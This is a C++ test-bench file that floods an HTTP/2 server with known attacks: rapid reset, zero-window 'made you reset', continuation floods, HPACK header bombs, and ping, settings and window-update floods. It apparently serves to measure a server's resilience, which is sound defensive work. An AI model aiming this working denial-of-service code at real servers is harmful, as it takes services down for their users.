// HTTP/2 without end: a fixed number of places, each of which begins a new connection when its last one has ended, and
// sends what its mode has for as long as it is let. What comes is read, so that no server can wait for us: only
// settings are confirmed, and answers counted.
#include <algorithm>
#include <vector>

#include "tests/bench/attack/frames.hpp"
#include "tests/bench/attack/loop.hpp"

namespace attack {

namespace {

constexpr std::size_t kOnce = 256U << 10U;  // sent or received of one connection before others have their turn
constexpr std::size_t kChunk = 16U << 10U;
constexpr std::int64_t kRest = 10 * kMillisecond;
constexpr std::uint32_t kStreams = 100;  // of churn, at the same time
constexpr std::uint32_t kLastStream = 0x7fff'ff00U;

struct Line {
  int fd = -1;
  bool connected = false;
  bool answered = false;
  std::uint64_t number = 0;  // of all connections
  std::string text;
  std::size_t sent = 0;
  std::uint32_t next = 1;   // stream
  std::uint32_t under = 0;  // streams under way
  bool poisoned = false;    // the table of fields has what bombs refer to
  h2::Reader reader;
};

class H2Storm {
 public:
  explicit H2Storm(const Options& options) : o_(options), ep_(epoll_create1(EPOLL_CLOEXEC)) {
    const auto is = [this](std::string_view name) { return o_.mode == name; };
    what_ = is("rapid_reset")           ? What::rapid
            : is("made_you_reset")      ? What::made
            : is("continuation_flood")  ? What::continuation
            : is("header_bombs")        ? What::bombs
            : is("ping_flood")          ? What::ping
            : is("settings_flood")      ? What::settings
            : is("window_update_flood") ? What::window
                                        : What::churn;
    lines_.resize(o_.count != 0 ? o_.count : 16);
    for (std::size_t i = 0; i < lines_.size(); ++i) idle_.push_back(i);
  }
  ~H2Storm() {
    for (Line& l : lines_)
      if (l.fd >= 0) close_with_reset(l.fd);
    close(ep_);
  }
  H2Storm(const H2Storm&) = delete;
  H2Storm& operator=(const H2Storm&) = delete;

  Tally run() {
    begin_ = now_ns();
    const auto end = begin_ + static_cast<std::int64_t>(o_.seconds * 1e9);
    std::vector<std::size_t> again;
    epoll_event events[256];
    for (std::int64_t now = begin_; now < end; now = now_ns()) {
      begin_some(now);
      const bool ready = (!idle_.empty() && now >= rest_until_) || !again_.empty();
      const int n = epoll_wait(ep_, events, 256, ready ? 0 : 10);
      again.swap(again_);
      for (const std::size_t i : again)
        if (lines_[i].connected) on_event(i, EPOLLIN | EPOLLOUT);
      again.clear();
      for (int i = 0; i < n; ++i) on_event(events[i].data.u64, events[i].events);
    }
    for (const Line& l : lines_)
      if (l.fd >= 0 && l.connected) ++t_.still_open;
    return t_;
  }

 private:
  enum class What { rapid, made, continuation, bombs, ping, settings, window, churn };

  void begin_some(std::int64_t now) {
    while (!idle_.empty() && now >= rest_until_) {
      const std::size_t i = idle_.back();
      Line& l = lines_[i];
      l = Line{};
      const int fd = begin_connect(o_.port, static_cast<std::uint32_t>(1 + started_ % 4));
      if (fd == -ECONNREFUSED) {
        ++started_;
        count_shed(l);
        rest_until_ = now + kRest;
        return;
      }
      if (fd < 0 || !watch(ep_, fd, i)) {
        if (fd >= 0) close(fd);
        ++t_.no_port;
        rest_until_ = now + kRest;
        return;
      }
      idle_.pop_back();
      l.fd = fd;
      l.number = started_++;
    }
  }

  void count_shed(const Line& l) {
    ++t_.shed;
    if (!l.connected || !l.answered) ++t_.refused;
    t_.last_shed_s = static_cast<double>(now_ns() - begin_) * 1e-9;
  }

  void shed(std::size_t i) {
    count_shed(lines_[i]);
    close(lines_[i].fd);
    lines_[i].fd = -1;
    idle_.push_back(i);
  }

  std::uint32_t new_stream(Line& l) {
    const std::uint32_t id = l.next;
    l.next += 2;
    ++t_.requests;
    return id;
  }

  /// The first thing that is said.
  void greet(Line& l) {
    l.connected = true;
    ++t_.opened;
    l.text = h2::kPreface;
    h2::put_frame(l.text, h2::kSettings, 0, 0, {});
    if (what_ == What::churn) h2::put_window_update(l.text, 0, 1U << 30U);
  }

  /// More of what the mode has; nothing while it waits for answers.
  void refill(Line& l) {
    static const std::string get = h2::request(false, "/");
    static const std::string post = h2::request(true, "/echo");
    static const std::string small =
        std::string("\x00\x01", 2) + "a" + std::string("\x01", 1) + "b";  // never in a table
    l.text.clear();
    l.sent = 0;
    if (l.next > kLastStream) return;
    switch (what_) {
      case What::rapid:
        while (l.text.size() < kChunk) {
          const std::uint32_t id = new_stream(l);
          h2::put_frame(l.text, h2::kHeaders, h2::kEndStream | h2::kEndHeaders, id, get);
          h2::put_reset(l.text, id);
        }
        return;
      case What::made:
        // The server has to reset: a window that grows by nothing is an error of the stream (RFC 9113 section 6.9).
        while (l.text.size() < kChunk) {
          const std::uint32_t id = new_stream(l);
          h2::put_frame(l.text, h2::kHeaders, h2::kEndHeaders, id, post);
          h2::put_window_update(l.text, id, 0);
        }
        return;
      case What::continuation: {
        if (!l.poisoned) h2::put_frame(l.text, h2::kHeaders, h2::kEndStream, new_stream(l), get);
        l.poisoned = true;
        const std::size_t per_frame = l.number % 3 == 0 ? 0 : l.number % 3 == 1 ? 1 : 200;  // fields
        std::string block;
        for (std::size_t k = 0; k < per_frame; ++k) block += small;
        while (l.text.size() < kChunk) h2::put_frame(l.text, h2::kContinuation, 0, l.next - 2, block);
        return;
      }
      case What::bombs: bomb(l, get); return;
      case What::ping:
        while (l.text.size() < kChunk) h2::put_frame(l.text, h2::kPing, 0, 0, "12345678");
        return;
      case What::settings:
        while (l.text.size() < kChunk)
          l.number % 2 == 0 ? h2::put_frame(l.text, h2::kSettings, 0, 0, {}) : h2::put_window_settings(l.text, 65'535);
        return;
      case What::window:
        while (l.text.size() < kChunk) h2::put_window_update(l.text, 0, 1);
        return;
      case What::churn:
        while (l.under < kStreams) {
          ++l.under;
          h2::put_frame(l.text, h2::kHeaders, h2::kEndStream | h2::kEndHeaders, new_stream(l), get);
        }
        return;
    }
  }

  /// By turns: fields of 4 KiB, references of a byte each to a field of 4,000 bytes, and to a crumb of a Cookie.
  void bomb(Line& l, const std::string& get) {
    const auto kind = static_cast<unsigned>(l.number % 3);
    std::string block = get;
    if (kind == 0) {
      const std::string value(4096, 'v');
      for (int k = 0; k < 14; ++k)
        block += std::string("\x00\x01h\x7f\x81\x1f", 6) + value;  // 127 + 1 + 31 * 128 = 4096
    } else {
      if (!l.poisoned && kind == 1) block += std::string("\x40\x01h\x7f\xa1\x1e", 6) + std::string(4000, 'v');
      if (!l.poisoned && kind == 2) block += std::string("\x60\x01", 2) + "c";
      l.poisoned = true;
      block += std::string(16'000, '\xbe');  // the newest of the dynamic table, again and again
    }
    const std::uint32_t id = new_stream(l);
    for (std::size_t at = 0; at < block.size(); at += h2::kLargestFrame) {
      const std::string_view piece = std::string_view(block).substr(at, h2::kLargestFrame);
      const bool last = at + piece.size() == block.size();
      h2::put_frame(l.text, at == 0 ? h2::kHeaders : h2::kContinuation,
                    static_cast<std::uint8_t>((at == 0 ? h2::kEndStream : 0) | (last ? h2::kEndHeaders : 0)), id,
                    piece);
    }
  }

  void on_event(std::size_t i, std::uint32_t events) {
    Line& l = lines_[i];
    if (l.fd < 0) return;
    if (!l.connected) {
      if ((events & (EPOLLERR | EPOLLHUP)) != 0 && socket_error(l.fd) != 0) return shed(i);
      if ((events & EPOLLOUT) == 0) return;
      greet(l);
    }
    if ((events & (EPOLLIN | EPOLLERR | EPOLLHUP | EPOLLRDHUP)) != 0 && !receive_some(i)) return;
    (void)send_some(i);
  }

  /// False when the connection is over.
  bool send_some(std::size_t i) {
    Line& l = lines_[i];
    for (std::size_t once = 0; once < kOnce;) {
      if (l.sent == l.text.size()) refill(l);
      if (l.text.empty()) return true;
      const ssize_t r = send(l.fd, l.text.data() + l.sent, l.text.size() - l.sent, MSG_NOSIGNAL);
      if (r < 0 && errno == EAGAIN) return true;
      if (r < 0) return shed(i), false;
      l.sent += static_cast<std::size_t>(r);
      once += static_cast<std::size_t>(r);
      t_.bytes_sent += static_cast<std::uint64_t>(r);
    }
    again_.push_back(i);
    return true;
  }

  bool receive_some(std::size_t i) {
    static char in[65536];
    Line& l = lines_[i];
    for (std::size_t once = 0; once < kOnce;) {
      const ssize_t r = recv(l.fd, in, sizeof in, 0);
      if (r < 0 && (errno == EAGAIN || errno == EINTR)) return true;
      if (r <= 0) return shed(i), false;
      if (!l.answered) ++t_.answered;
      l.answered = true;
      once += static_cast<std::size_t>(r);
      l.reader.feed({in, static_cast<std::size_t>(r)}, [&](const h2::Frame& f) {
        const bool ends = (f.flags & h2::kEndStream) != 0;
        if (f.type == h2::kSettings && !ends && what_ != What::continuation)
          h2::put_frame(l.text, h2::kSettings, h2::kEndStream, 0, {});
        const bool over = f.type == h2::kReset || (ends && (f.type == h2::kData || f.type == h2::kHeaders));
        if (over && l.under != 0) --l.under;
      });
    }
    again_.push_back(i);
    return true;
  }

  const Options& o_;
  int ep_;
  What what_{};
  std::vector<Line> lines_;
  std::vector<std::size_t> idle_;
  std::vector<std::size_t> again_;  // had enough for one turn, and no edge will tell that there is more
  std::uint64_t started_ = 0;
  std::int64_t begin_ = 0;
  std::int64_t rest_until_ = 0;
  Tally t_;
};

}  // namespace

Tally h2_storm(const Options& options) { return H2Storm(options).run(); }

}  // namespace attack
